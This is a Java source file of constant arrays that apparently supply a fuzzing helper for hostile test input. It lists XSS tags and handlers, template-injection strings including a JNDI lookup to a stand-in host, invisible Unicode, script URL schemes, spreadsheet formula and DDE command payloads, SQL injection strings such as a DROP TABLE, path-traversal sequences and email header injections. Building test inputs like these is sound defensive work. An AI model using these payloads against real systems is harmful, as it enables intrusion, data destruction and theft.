package app.laurel;

/** The pieces of which {@link HostileText} is made. */
final class HostilePieces {
    static final String[] TAGS = {"script", "img", "svg", "iframe", "object", "details", "video", "body", "math", "a"};
    static final String[] EVENTS = {
        "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend", "onpointerenter"
    };
    static final String[] QUOTES = {
        "\"", "'", "`", "\">", "'>", "\"/>", "</title>", "</textarea>", "--!>", "]]>", "</script>"
    };
    static final String[] TEMPLATES = {
        "${%s}",
        "{{%s}}",
        "#{%s}",
        "<%%= %s %%>",
        "[[%s]]",
        "@{%s}",
        "*{%s}",
        "{%s}",
        "{0} %s",
        "%%{%s}",
        "<#if %s>",
        "${jndi:ldap://x.example/%s}",
        "$unsafe{%s}"
    };
    static final String[] INVISIBLE = {
        "\u202E",
        "\u202D",
        "\u2066",
        "\u2069",
        "\u200B",
        "\u200D",
        "\u200F",
        "\uFEFF",
        "\u00AD",
        "\u3164",
        "\u115F",
        "\u180E",
        "\uDB40\uDC41"
    };
    static final String[] SCHEMES = {
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "&#106;avascript:",
        "vbscript:",
        "data:text/html,",
        "data:text/html;base64,",
        "blob:",
        "file:///"
    };
    static final String[] FORMULAS = {
        "=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "'=", "\"=", ";=", "\uFEFF=", "\u200B="
    };
    static final String[] FUNCTIONS = {
        "1+1",
        "SUM(A1:A9)",
        "HYPERLINK(\"http://x.example\",\"x\")",
        "cmd|' /C calc'!A1",
        "WEBSERVICE(\"http://x.example\")",
        "IMPORTXML(A1)",
        "DDE(\"a\",\"b\",\"c\")",
        "2*3"
    };
    static final String[] VALUES = {
        "3/4",
        "1-2",
        "12.5",
        "2026-01-02",
        "1/2/2026",
        "1e5",
        "10:30",
        "₩1,000",
        "50%",
        "TRUE",
        "false",
        "참",
        "Mar 5",
        "2026년 3월 1일",
        "(5)",
        "٣٤",
        "１２",
        "00123",
        "1 1/2",
        "$5"
    };
    static final String[] STATEMENTS = {
        "' or 1=1 -- ",
        "'; drop table ballot; -- ",
        "\") or (\"1\"=\"1",
        "' union select mail from community_account -- ",
        "\\'; -- ",
        "1; sleep(5)",
        "%' or '%'='"
    };
    static final String[] PATHS = {
        "../", "..\\", "%2e%2e/", "..%2f", "....//", "/..;/", "%c0%ae%c0%ae/", "\\\\x.example\\", "//x.example/"
    };
    static final String[] HEADERS = {
        "\r\nBcc: ", "\nBcc: ", "%0d%0aBcc: ", "\r\n\r\n", "\u2028Bcc: ", "=?utf-8?q?=0ABcc:?= ", "\r\n.\r\nMAIL FROM:"
    };
    static final String MARKS = "\u0300\u0301\u0316\u0327\u0334\u0338\u0353\u0489\u0E47\u20DD";

    private HostilePieces() {}
}
